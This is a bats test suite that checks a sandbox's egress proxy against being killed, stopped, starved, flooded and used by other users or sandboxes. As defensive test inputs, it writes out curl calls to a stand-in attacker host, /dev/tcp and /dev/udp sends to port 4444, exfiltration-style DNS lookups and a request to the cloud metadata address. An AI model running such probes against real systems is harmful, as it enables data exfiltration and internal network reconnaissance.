#!/usr/bin/env bats
# Attacks on egress itself, and by others than the payload: it is killed, stopped, starved and flooded; another user and
# another sandbox want to use it.
# shellcheck disable=SC2016

bats_require_minimum_version 1.5.0

load helpers

# Memory that egress may have at any time, in KiB.
readonly RSS_MAX=65536

setup_file() {
	start_net
	make_project app
	export OWN=$TEST_DIR/own ATTACKS=$TEST_HOME/attacks
	give_attacks
}

setup() {
	world_tell reset
	world_mark
	OPTIONS=(--extra-ro "$ATTACKS" --allow-host allowed.example.com --allow-host '*.wild.example.com'
		--allow-host stuck.example.com --allow-host slow.example.com)
}

teardown() {
	USER_DIR=$PROJECT as_user "$CSB" --stop . >/dev/null 2>&1 || true
	wait_for 5 nothing_runs || true
}

teardown_file() {
	end_file
}

# start_sandbox: it lasts until the end of the test; what it says is in SANDBOX_LOG. EGRESS is egress, which has been used.
start_sandbox() {
	SANDBOX_LOG=$OWN/sandbox-$BATS_TEST_NUMBER
	USER_DIR=$PROJECT spawn_user "$SANDBOX_LOG" "$CSB" "${OPTIONS[@]}" . -- sleep 250
	wait_for 10 inside true
	allowed_works
	EGRESS=$(egress_of_test)
	[ -n "$EGRESS" ]
}

# inside COMMAND...: in the sandbox that runs.
inside() {
	USER_DIR=$PROJECT as_user timeout 120 "$CSB" "${OPTIONS[@]}" . -- "$@"
}

# attempt: bytes for a forbidden host and for an allowed one, by all ways; none is waited for.
attempt() {
	inside timeout 20 bash -c 'for url in http://evil.example.net/attempt http://93.184.216.66/attempt http://allowed.example.com/attempt; do
		curl -s -m 1 "$url" &
		curl -s -m 1 -x http://127.0.0.1:3128 "$url" &
		curl -s -m 1 -p -x http://127.0.0.1:3128 "$url" &
		curl -s -m 1 -x socks5h://127.0.0.1:1080 "$url" &
	done
	for name in attempt.exfil.example.net attempt.wild.example.com; do timeout 1 getent ahosts "$name" & done
	for place in 93.184.216.66/4444 8.8.8.8/53; do
		timeout 1 bash -c "echo attempt >/dev/udp/$place" & timeout 1 bash -c "echo attempt >/dev/tcp/$place" &
	done
	wait' >/dev/null 2>&1 || true
}

nothing_came() {
	seen_nothing web any && seen_nothing raw any && seen_nothing dns any
}

allowed_works() {
	[ "$(inside curl -sS -m 5 http://allowed.example.com/)" = "this is allowed.example.com" ]
}

# Those whose parent lives in this file's home: egress itself has no environment.
egress_of_test() {
	local dir parent
	for dir in /proc/[0-9]*; do
		[ "$(cat "$dir/comm" 2>/dev/null)" = csb-egress ] || continue
		parent=$(awk '/^PPid:/ { print $2 }' "$dir/status")
		if tr '\0' '\n' <"/proc/$parent/environ" | grep -qxF "HOME=$TEST_HOME"; then
			echo "${dir#/proc/}"
		fi
	done 2>/dev/null
}

sockets_of() {
	find "/proc/$1/fd" -lname 'socket:*' | wc -l
}

# idle_sockets N: of egress, when all its clients have gone.
idle_sockets() {
	[ "$(sockets_of "$EGRESS")" -le "$1" ]
}

cpu_ticks() {
	sed 's/.*) //' "/proc/$1/stat" | awk '{ print $12 + $13 }'
}

# does_nothing PID: less than a tenth of a second of work in a second.
does_nothing() {
	local before
	before=$(cpu_ticks "$1")
	sleep 1
	(($(cpu_ticks "$1") - before < 10))
}

memory_is_bounded() {
	local most
	most=$(awk '/^VmHWM:/ { print $2 }' "/proc/$EGRESS/status")
	echo "# $* $most KiB" >&3
	[ "$most" -le "$RSS_MAX" ]
}

# floods KIND NUMBER: an honest client gets through soon after, nothing is left, and nothing spins.
floods() {
	local before
	before=$(sockets_of "$EGRESS")
	inside /usr/bin/python3 -B "$ATTACKS/flood.py" "$@"
	wait_for 10 allowed_works
	wait_for 15 idle_sockets "$before"
	wait_for 5 does_nothing "$EGRESS"
	memory_is_bounded "$@"
	[ "$(egress_of_test)" = "$EGRESS" ]
}

@test "E-02: egress is killed: nothing comes out, it is told once, and another sandbox goes on" {
	start_sandbox
	PROJECT_ONE=$PROJECT
	make_project other
	USER_DIR=$PROJECT spawn_user "$OWN/other" "$CSB" --allow-host allowed.example.com . -- \
		bash -c 'while ! curl -sS -m 5 http://allowed.example.com/; do :; done; read -r -t 200 <> <(:)'
	wait_for 10 grep -q 'this is allowed' "$OWN/other"
	attempt
	seen web allowed.example.com head
	kill -KILL "$EGRESS"
	wait_for 5 process_gone "$EGRESS"
	PROJECT=$PROJECT_ONE
	world_mark
	local end=$((SECONDS + 8))
	while ((SECONDS < end)); do
		attempt
	done
	nothing_came
	# The other one was not asked in between.
	PROJECT=$TEST_HOME/projects/other
	OPTIONS=(--allow-host allowed.example.com)
	allowed_works
	USER_DIR=$PROJECT as_user "$CSB" --stop .
	PROJECT=$PROJECT_ONE
	USER_DIR=$PROJECT as_user "$CSB" --stop .
	wait_for 10 grep -q 'lost its network' "$SANDBOX_LOG"
	[ "$(grep -c 'lost its network' "$SANDBOX_LOG")" = 1 ]
}

@test "E-02: egress is stopped: nothing comes out, and it goes on afterwards" {
	start_sandbox
	kill -STOP "$EGRESS"
	world_mark
	attempt
	attempt
	nothing_came
	kill -CONT "$EGRESS"
	wait_for 10 allowed_works
}

@test "E-02: egress has no descriptor left: nothing comes out, it does not spin, and it goes on afterwards" {
	start_sandbox
	as_user prlimit --pid "$EGRESS" --nofile=3:
	world_mark
	attempt
	nothing_came
	does_nothing "$EGRESS"
	as_user prlimit --pid "$EGRESS" --nofile=4096:
	wait_for 10 allowed_works
}

@test "E-03: an empty list allows nothing" {
	as_user mkdir -p "$TEST_HOME/.config/claude-sandbox"
	echo '{ "allow_hosts": [] }' | as_user tee "$TEST_HOME/.config/claude-sandbox/config.json" >/dev/null
	OPTIONS=()
	attempt
	as_user rm "$TEST_HOME/.config/claude-sandbox/config.json"
	nothing_came
	attempt # and without the list all of these are public
	seen web evil.example.net head
}

@test "E-13: names below an allowed one are looked up at a limited rate" {
	start_sandbox
	world_mark
	inside /usr/bin/python3 -B "$ATTACKS/flood.py" names 3000
	sleep 1
	local rows
	rows=$(world_rows dns .wild.example.com | jq -r .name | sort -u | wc -l)
	echo "# $rows of 3000 names were looked up" >&3
	((rows > 100 && rows < 1500))
	wait_for 10 allowed_works
}

@test "E-16: neither another user nor another sandbox can use the ports of this one" {
	OPTIONS+=(--allow-host evil.example.net)
	start_sandbox
	[ "$(inside curl -sS -m 5 http://evil.example.net/)" = "this is evil.example.net" ]
	PROJECT_ONE=$PROJECT
	make_project third
	local url=http://evil.example.net/attempt user proxy
	world_mark
	for proxy in http://127.0.0.1:3128 http://127.0.0.1:61443 socks5h://127.0.0.1:1080; do
		for user in root "$TEST_USER" nobody; do
			run setpriv "--reuid=$user" --clear-groups curl -s -m 3 -x "$proxy" "$url"
			[[ $status = 7 || $status = 97 ]]
		done
		USER_DIR=$PROJECT as_user "$CSB" --allow-host allowed.example.com . -- curl -s -m 3 -x "$proxy" "$url" || true
	done
	USER_DIR=$PROJECT as_user "$CSB" --allow-host allowed.example.com . -- curl -s -m 3 "$url" || true
	seen_nothing web any head
	# Nothing of it can be called by a name in the file system either, or without one.
	run bash -c 'cat /proc/net/unix | grep -i -e egress -e gateway'
	exits 1
	PROJECT=$PROJECT_ONE
}

@test "E-18: what listens inside cannot be called from the host or its networks" {
	start_sandbox
	inside bash -c 'timeout 20 /usr/bin/python3 -m http.server 8765 >/dev/null 2>&1 &
		timeout 20 /usr/bin/python3 -m http.server 8766 --bind :: >/dev/null 2>&1 &
		for url in http://127.0.0.1:8765/ "http://[::1]:8766/"; do until curl -s -m 3 "$url"; do sleep 0.1; done; done >/dev/null
		touch listens; timeout 20 bash -c "until [ -e called ]; do sleep 0.1; done"' &
	wait_for 10 test -e "$PROJECT/listens"
	local address
	for address in 127.0.0.1:8765 '[::1]:8766' 192.168.77.20:8765 93.184.219.20:8765 '[2606:2800:220:77::20]:8766' 198.18.0.1:8765; do
		run curl -s -m 2 "http://$address/"
		[ "$status" -ne 0 ]
	done
	as_user touch "$PROJECT/called"
	wait $!
}

@test "K-13: a service of the host that was allowed is there, and nothing else of the host" {
	OPTIONS=(--allow-local localhost:8080)
	local url
	for url in http://127.0.0.1:8080/ http://localhost:8080/ http://host.sandbox.internal:8080/; do
		run inside curl -sS -m 5 "$url"
		says '^canary'
	done
	seen raw 127.0.0.1:8080 bytes
	world_mark
	for url in http://127.0.0.1:80/ http://localhost:5432/ http://host.sandbox.internal:80/ http://host.sandbox.internal:5432/ \
		http://192.168.77.20:8080/ http://localhost.example.net:8080/ http://localhost.example.net/ http://169.254.169.254/; do
		inside bash -c 'curl -s -m 2 "$1"; curl -s -m 2 -x http://127.0.0.1:3128 "$1"; curl -s -m 2 -p -x http://127.0.0.1:3128 "$1"
			curl -s -m 2 -x socks5h://127.0.0.1:1080 "$1"' - "$url" || true
	done
	seen_nothing raw any
}

# received_by PLACE: bytes since the mark. What a reset drops before the server has read it is not counted, so on a busy
# machine they are fewer than were let out, and never more.
received_by() {
	world_tell sync
	{ world_rows raw "$1" bytes || true; } | jq -s 'map(.bytes) | add // 0'
}

@test "E-13: what may be sent in all is not more on many connections, and whoever has to stop does not spin" {
	OPTIONS+=(--allow-host echo.example.com --upload 1M)
	start_sandbox
	inside /usr/bin/python3 -B "$ATTACKS/flood.py" upload 20
	local bytes
	bytes=$(received_by 93.184.216.41:9)
	echo "# $bytes bytes came" >&3
	((bytes > 0 && bytes <= 1048576))
	wait_for 5 does_nothing "$EGRESS"
}

@test "E-13: what may be sent to a host is not more when egress has had to forget names" {
	as_user mkdir -p "$TEST_HOME/.config/claude-sandbox"
	echo '{ "upload_host_mib": 1 }' | as_user tee "$TEST_HOME/.config/claude-sandbox/config.json" >/dev/null
	OPTIONS+=(--allow-host echo.example.com)
	start_sandbox
	inside /usr/bin/python3 -B "$ATTACKS/flood.py" upload 3
	inside /usr/bin/python3 -B "$ATTACKS/flood.py" forgotten 9000
	inside /usr/bin/python3 -B "$ATTACKS/flood.py" upload 3
	as_user rm "$TEST_HOME/.config/claude-sandbox/config.json"
	local bytes
	bytes=$(received_by 93.184.216.41:9)
	echo "# $bytes bytes came" >&3
	((bytes > 0 && bytes <= 1048576))
}

@test "E-17: 10,000 connections, more than it takes at a time" {
	start_sandbox
	floods connections 10000
}

@test "E-17: heads without an end, large heads, byte after byte" {
	start_sandbox
	floods heads 1500
	floods big 20
	floods drip 30
}

@test "E-17: tunnels in which nothing is said, and first messages without an end" {
	start_sandbox
	floods tunnels 1500
	floods first 800
}

@test "E-17: answers that nobody reads, uploads that are slow, halves that are closed" {
	start_sandbox
	floods deaf 20
	floods bodies 50
	floods half 20
	floods unread 50
}

@test "E-17: clients that go away with a reset at each stage, and clients that are refused late" {
	start_sandbox
	floods resets 20
	floods refused 30
}

@test "E-17: bytes that nobody wants do not keep others waiting" {
	start_sandbox
	inside /usr/bin/python3 -B "$ATTACKS/flood.py" junk 2 &
	sleep 1
	local began=${EPOCHREALTIME/./}
	allowed_works
	((${EPOCHREALTIME/./} - began < 3000000))
	wait $!
	floods junk 1
}

@test "E-17: messages of DNS that are none" {
	start_sandbox
	floods udp 20000
	floods dns-tcp 200
}
